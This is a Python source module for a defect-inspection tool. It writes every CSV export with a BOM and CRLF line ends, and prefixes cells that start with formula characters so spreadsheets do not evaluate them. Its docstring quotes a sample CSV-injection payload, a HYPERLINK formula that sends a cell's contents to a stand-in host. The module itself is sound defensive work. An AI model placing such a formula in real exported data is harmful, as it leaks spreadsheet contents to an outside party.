"""The one CSV writer of defectlab (and the matching reader rules for the importer).

Every CSV the product writes (predictions, dataset export, throughput/pay report, any UI download)
goes through :func:`csv_text` or :func:`write_csv`:

* **UTF-8 with a BOM** and CRLF line ends, so Excel opens Chinese class and file names right;
* **formula cells are neutralised**: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return (what Excel, LibreOffice and Google Sheets evaluate as a formula, e.g. an
  attacker's file name ``=HYPERLINK("http://x/?"&A1,"open")``) gets a leading apostrophe ``'``, which
  spreadsheets show as text and never evaluate. Numbers (``int``/``float``) are written as numbers,
  so a negative confidence stays numeric;
* a text cell that already starts with an apostrophe followed by such a cell gets one more
  apostrophe, so the rule is reversible: :func:`unneutralise` gives back exactly the original value.

Re-import: the importer (``ingest.scan``, ``csv`` layout) reads the BOM and applies
:func:`unneutralise` to the path and label columns, so an exported ``labels.csv`` imports with the
same labels. It removes only the apostrophe this module adds (one ``'`` in front of a cell that would
otherwise need it); a third-party label such as ``'quoted`` is left as it is.

Examples
--------
>>> neutralise('=HYPERLINK("http://x","y")')
'\\'=HYPERLINK("http://x","y")'
>>> neutralise("-3"), neutralise(-3), neutralise("划痕")
("'-3", -3, '划痕')
>>> unneutralise(neutralise("'=x")) == "'=x"
True
>>> csv_text(["name", "n"], [["=1+1", 2]])
"\\ufeffname,n\\r\\n'=1+1,2\\r\\n"
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
from collections.abc import Iterable, Sequence
from pathlib import Path

__all__ = ["BOM", "FORMULA_STARTS", "csv_text", "neutralise", "unneutralise", "write_csv"]

#: What a CSV file written by defectlab starts with.
BOM = "\ufeff"

#: First characters that make a spreadsheet treat a cell as a formula (OWASP CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _needs_prefix(text: str) -> bool:
    # iterative form of: starts with a formula character, or "'" followed by a text that needs one
    i = 0
    while text[i:i + 1] == "'":
        i += 1
    return text[i:i + 1] in FORMULA_STARTS


def neutralise(value):
    """A cell value safe for spreadsheets: text that could run as a formula gets a leading ``'``.

    Parameters
    ----------
    value : object
        ``None`` becomes ``""``; ``int``/``float`` (and NumPy numbers) are kept as numbers; anything
        else is its ``str``.

    Returns
    -------
    str or number
    """
    if value is None:
        return ""
    if isinstance(value, (bool, int, float)) or type(value).__module__ == "numpy":
        return value
    text = str(value)
    return "'" + text if _needs_prefix(text) else text


def unneutralise(text: str) -> str:
    """Undo :func:`neutralise` on a text cell read back from a defectlab CSV.

    Removes one leading ``'`` only when what follows would itself have been prefixed, so
    ``unneutralise(neutralise(s)) == s`` for every string and other text is left alone.

    Parameters
    ----------
    text : str

    Returns
    -------
    str
    """
    if text[:1] == "'" and _needs_prefix(text[1:]):
        return text[1:]
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence], bom: bool = True) -> str:
    """CSV text for Excel: BOM, CRLF line ends, every cell through :func:`neutralise`.

    Parameters
    ----------
    header : sequence of str
        Column names (neutralised too: they may be class names).
    rows : iterable of sequences
        One sequence of cell values per row.
    bom : bool, default True
        Start with :data:`BOM`.

    Returns
    -------
    str
        Encode with UTF-8 to write it (``st.download_button`` accepts it as it is).
    """
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow([neutralise(v) for v in row])
    return (BOM if bom else "") + buf.getvalue()


def write_csv(path, header: Sequence[str], rows: Iterable[Sequence]) -> int:
    """Write :func:`csv_text` to ``path`` atomically (a temporary file in the same folder, then renamed).

    Parameters
    ----------
    path : str or os.PathLike
        The file; its folder is created.
    header : sequence of str
    rows : iterable of sequences

    Returns
    -------
    int
        Number of data rows written.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    rows = list(rows)
    data = csv_text(header, rows).encode("utf-8")
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
    try:
        with os.fdopen(fd, "wb") as fh:
            fh.write(data)
        os.replace(tmp, path)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise
    return len(rows)
